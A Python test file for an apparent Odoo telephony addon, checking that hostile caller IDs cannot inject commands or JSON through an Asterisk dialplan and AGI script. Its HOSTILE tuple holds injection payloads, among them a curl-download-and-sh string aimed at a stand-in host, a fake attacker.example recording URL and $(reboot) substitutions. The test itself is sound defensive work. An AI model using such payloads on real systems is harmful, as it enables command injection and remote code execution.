"""The dialplan of docs/event-api.md cannot be injected by a caller ID.

The test renders the documented dialplan lines the way Asterisk substitutes
variables, with hostile caller IDs, and runs the documented AGI script with
the resulting arguments against the test server.
"""

import json
import os
import re
import subprocess
import sys
import tempfile

from odoo.tests import HttpCase, tagged

from .common import make_connection

ADDON = os.path.dirname(os.path.dirname(__file__))
DOC = os.path.join(ADDON, "docs", "event-api.md")
SCRIPT = os.path.join(ADDON, "scripts", "clinic_pbx_agi.py")
HOSTILE = (
    "1';curl$IFS-o/tmp/s$IFS'x.example/s';sh$IFS/tmp/s;'",
    '"},"recording_url":"http://attacker.example/x.wav","from":"',
    "+7 (916) 555-01-23$(reboot)`id`",
    "79165550123\n\x00;echo",
)


def documented_dialplan():
    text = open(DOC, encoding="utf-8").read()
    section = text[text.index("## Asterisk / FreePBX dialplan") :]
    block = re.search(r"```\n(; /etc/asterisk.*?)```", section, re.S).group(1)
    return block.splitlines()


def expand(template, variables):
    """Asterisk's ${VAR} and ${FILTER(allowed,value)} substitution.

    As in Asterisk, the braces are matched in the template, the expression
    inside is expanded first, and a value is never scanned again.
    """
    out, i = [], 0
    while i < len(template):
        if template.startswith("${", i):
            depth, j = 1, i + 2
            while depth:
                if template.startswith("${", j):
                    depth, j = depth + 1, j + 2
                    continue
                depth -= template[j] == "}"
                j += 1
            inner = expand(template[i + 2 : j - 1], variables)
            if inner.startswith("FILTER(") and inner.endswith(")"):
                allowed, _sep, value = inner[len("FILTER(") : -1].partition(",")
                out.append("".join(char for char in value if char in allowed))
            else:
                out.append(variables[inner])
            i = j
        else:
            out.append(template[i])
            i += 1
    return "".join(out)


def agi_arguments(macro, variables):
    """The AGI script and its arguments when ``macro`` runs."""
    variables = dict(variables)
    inside = False
    for line in documented_dialplan():
        if line.startswith("["):
            inside = line.strip() == f"[{macro}]"
            continue
        if not inside:
            continue
        application = re.match(r"\s*(?:exten => [^,]+,[^,]+|same => [^,]+),(.*)$", line)
        application = application.group(1)
        if application.startswith("Set("):
            name, _sep, value = application[4:-1].partition("=")
            # Asterisk expands the value when Set() runs; the result is data.
            variables[name] = expand(value, variables)
        elif application.startswith("AGI("):
            # The expanded values are split on commas into arguments, with
            # no shell in between.
            return expand(application[4:-1], variables).split(",")
    raise AssertionError(f"no AGI() call in [{macro}]")


@tagged("post_install", "-at_install")
class TestDialplanAgi(HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.connection, cls.token = make_connection(cls.env, name="Dialplan PBX")

    def run_agi(self, argv):
        with tempfile.NamedTemporaryFile("w", suffix=".conf") as conf:
            conf.write(f"[clinic_pbx]\nurl = {self.base_url()}\ntoken = {self.token}\n")
            conf.flush()
            os.chmod(conf.name, 0o600)
            return subprocess.run(
                [sys.executable, SCRIPT, *argv[1:]],
                input="agi_request: clinic_pbx_agi.py\nagi_channel: PJSIP/trunk\n\n",
                capture_output=True,
                text=True,
                timeout=60,
                env={
                    **os.environ,
                    "CLINIC_PBX_AGI_CONF": conf.name,
                    "CLINIC_PBX_AGI_FOREGROUND": "1",
                },
                check=False,
            )

    def test_a_hostile_caller_id_stays_a_clean_number(self):
        for n, caller_id in enumerate(HOSTILE):
            with self.subTest(caller_id=caller_id):
                variables = {
                    "CALLERID(num)": caller_id,
                    "FROM_DID": "74951234500",
                    "CDR(linkedid)": f"1730780250.{n}",
                    "ARG1": "101",
                }
                argv = agi_arguments("macro-clinic-pbx-ringing", variables)
                self.assertEqual(len(argv), 6, argv)
                self.assertRegex(argv[3], r"^[0-9+]*$")
                result = self.run_agi(argv)
                self.assertEqual(result.returncode, 0, result.stderr)
                call = self.env["pbx.call"].search(
                    [("external_id", "=", f"1730780250.{n}")]
                )
                clean = re.sub(r"[^0-9+]", "", caller_id)
                self.assertEqual(call.src, clean or "anonymous")
                self.assertEqual(call.extension, "101")
                self.assertFalse(call.sudo().recording_url)
                self.assertEqual(call.state, "ringing")

    def test_answered_and_hangup_follow_the_ringing_call(self):
        variables = {
            "CALLERID(num)": "+79165550199",
            "FROM_DID": "74951234500",
            "CDR(linkedid)": "1730780999.5",
            "ARG1": "102",
            "DIALSTATUS": "ANSWER",
            "CDR(billsec)": "42",
            "CDR(duration)": "50",
        }
        for macro in ("ringing", "answered", "hangup"):
            argv = agi_arguments(f"macro-clinic-pbx-{macro}", variables)
            self.assertEqual(self.run_agi(argv).returncode, 0)
        call = self.env["pbx.call"].search([("external_id", "=", "1730780999.5")])
        self.assertEqual((call.state, call.disposition), ("done", "answered"))
        self.assertEqual((call.talk_seconds, call.wait_seconds), (42, 8))
        self.assertEqual(call.answered_extension, "102")

    def test_the_body_is_built_by_an_encoder_even_without_the_filter(self):
        """Should a dialplan pass the caller ID as it came, the script still
        sends valid JSON with nothing but digits and + as the number."""
        sys.path.insert(0, os.path.dirname(SCRIPT))
        try:
            import clinic_pbx_agi  # pylint: disable=import-outside-toplevel
        finally:
            sys.path.pop(0)
        for caller_id in HOSTILE:
            event = clinic_pbx_agi.build_event(
                ["ringing", "1.1", caller_id, "74951234500", "101;x"],
                "2026-11-05T09:00:00+03:00",
            )
            body = json.loads(json.dumps({"events": [event]}))
            self.assertEqual(set(body["events"][0]), {
                "type", "call_id", "time", "direction", "from", "to", "extension"
            })  # fmt: skip
            self.assertRegex(body["events"][0]["from"], r"^([0-9+]+|anonymous)$")
            self.assertEqual(body["events"][0]["extension"], "101x")
